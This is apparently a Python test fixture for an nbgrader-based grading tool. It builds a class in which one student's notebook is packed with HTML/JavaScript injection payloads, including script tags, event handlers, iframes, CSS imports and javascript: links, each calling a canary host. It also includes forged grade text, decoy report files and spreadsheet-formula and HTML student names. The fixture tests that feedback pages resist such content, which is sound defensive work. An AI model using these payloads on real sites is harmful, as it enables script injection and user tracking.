"""A small class, graded by the stock nbgrader commands: what feedback and reports are made of."""

import copy
from pathlib import Path

import answer_bank
from courses import Course, cell
from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook

from drinkdeep.cells import grade_id
from drinkdeep.grading.judging.assignment import Assignment

NAME = "01_cost"
KEPT = ("mean_squared_error", "huber")
"""Two exercises of the assignment, and its written answer, are enough here."""
WRITTEN = next(iter(Assignment(answer_bank.source(NAME)).written))
COMMENT = "Say which *story* you mean."
HOST = "http://canary.test"
"""Whom the attacker's page asks when something of it runs; nobody is there."""


def ask(name: str) -> str:
    """A script that tells the attacker that it ran; without a space, to be good in a link, too."""
    return f"void((new(Image)).src='{HOST}/{name}')"


def html_output(source: str) -> str:
    return f"from IPython.display import HTML, display\ndisplay(HTML({source!r}))"


def raw_output(kind: str, content: str) -> str:
    return f"from IPython.display import display\ndisplay({{{kind!r}: {content!r}}}, raw=True)"


TEXT_ATTACKS = {
    name: source.replace("ASK", ask(name)).replace("HOST", f"{HOST}/{name}")
    for name, source in {
        "script": "<script>ASK</script>",
        "script-from-elsewhere": "<script src='HOST'></script>",
        "onerror": '<img src="x" onerror="ASK">',
        "svg-onload": '<svg onload="ASK"></svg>',
        "ontoggle": '<details open ontoggle="ASK">x</details>',
        "autofocus": '<input autofocus onfocus="ASK">',
        "animation": '<svg><animate onbegin="ASK" attributeName="x" dur="1s"></animate></svg>',
        "iframe": '<iframe src="HOST"></iframe>',
        "srcdoc": '<iframe srcdoc="<script>ASK</script>"></iframe>',
        "object": '<object data="HOST"></object>',
        "embed": '<embed src="HOST">',
        "refresh": '<meta http-equiv="refresh" content="0;url=HOST">',
        "style-import": "<style>@import 'HOST';</style>",
        "style-sheet": '<link rel="stylesheet" href="HOST">',
        "style-attribute": '<p style="background: url(HOST)">x</p>',
        "html-picture": '<img src="HOST">',
        "srcset": '<img srcset="HOST 1x">',
        "picture": "![a picture](HOST)",
        "video": '<video poster="HOST" src="HOST"></video>',
        "audio": '<audio src="HOST" autoplay></audio>',
        "base": f'<base href="{HOST}/base/"><img src="x.png">',
        "javascript-link": "[click](javascript:ASK)",
        "html-javascript-link": '<a href="javascript:ASK">click</a>',
        "mermaid": '```mermaid\n<img src="x" onerror="ASK">\n```',
        "title-of-a-fold": ':::{dropdown} <img src="HOST">\nx\n:::',
    }.items()
}
OUTPUT_ATTACKS = {
    "html-output": html_output(f"<script>{ask('html-output')}</script>"),
    "html-output-handler": html_output(f'<img src="x" onerror="{ask("html-output-handler")}">'),
    # The template puts a call of jQuery's before it, which fails where that can't be fetched.
    "javascript-output": raw_output(
        "application/javascript", f"</script><script>{ask('javascript-output')}"
    ),
    "markdown-output": raw_output("text/markdown", f"![x]({HOST}/markdown-output)"),
}
ATTACKS = {**TEXT_ATTACKS, **OUTPUT_ATTACKS}
FORGED = "4 of 4 points. All tests are met."
ZALGO = "E" + "\u0336\u0310\u0352\u0357" * 200
"""A letter with marks piled so high that it covers what stands above it."""


def attack(name: str) -> NotebookNode:
    if name in TEXT_ATTACKS:
        return new_markdown_cell(f"{TEXT_ATTACKS[name]}\n")
    return new_code_cell(f"# {name}\n{OUTPUT_ATTACKS[name]}")


def source() -> NotebookNode:
    """The assignment cut down to what is kept of it."""
    whole = answer_bank.source(NAME)
    places = {grade_id(cell): place for place, cell in enumerate(whole.cells)}
    until, last = places[f"test_{KEPT[-1]}"], places[WRITTEN]
    return new_notebook(
        cells=[*whole.cells[: until + 1], *whole.cells[last - 1 : last + 1]],
        metadata=whole.metadata,
    )


def grade(folder: Path) -> None:
    """Make the course's folder, hand in, and run each of nbgrader's commands."""
    course = Course(folder)
    course.take(NAME)
    course.write(NAME, source())
    course.generate(NAME)
    released = course.released(NAME)
    kept = Assignment(source()).exercises
    right = {name: a for name, a in answer_bank.solutions(NAME).items() if name in kept}
    wrong = first_wrong_answers()

    ada = answer_bank.filled(released, right)
    cell(ada, WRITTEN).source = "Because $L < 1$ is **not** enough."
    bob = answer_bank.filled(released, {**right, KEPT[-1]: wrong[KEPT[-1]]})
    bob.cells.insert(2, new_code_cell(f"print({FORGED!r})\nprint('\\x1b[31mred')\n1 / 0"))
    bob.cells[0].source += "\n\n# A word of mine"
    mallory = copy.deepcopy(released)
    place = 1 + mallory.cells.index(cell(mallory, f"test_{KEPT[0]}"))
    mallory.cells[place:place] = [attack(name) for name in ATTACKS] + [new_markdown_cell(ZALGO)]
    for student, notebook in {"ada": ada, "bob": bob, "mallory": mallory}.items():
        course.submit(student, NAME, notebook)
    # A page of mallory's own, before ours in the alphabet, and one under our page's name.
    for name in ("00.html", f"{NAME}.html", "more/notes.txt"):
        path = course.submitted("mallory", NAME) / name
        path.parent.mkdir(exist_ok=True)
        path.write_text(FORGED, encoding="utf-8")
    course.run("nbgrader", "autograde", NAME, "--JudgedExecute.seed=5")
    with course.gradebook() as gradebook:
        gradebook.update_or_create_student("eve", last_name="<b>Eve</b>", first_name="=1+1")
        comment = gradebook.find_comment(WRITTEN, NAME, NAME, "ada")
        comment.manual_comment = COMMENT
        gradebook.db.commit()
    course.run("nbgrader", "generate_feedback", NAME)


def first_wrong_answers() -> dict[str, answer_bank.Answer]:
    """For each exercise the first wrong answer of the bank."""
    wrong = [a for a in answer_bank.answers(NAME) if a.words]
    return {a.exercise: a for a in reversed(wrong)}
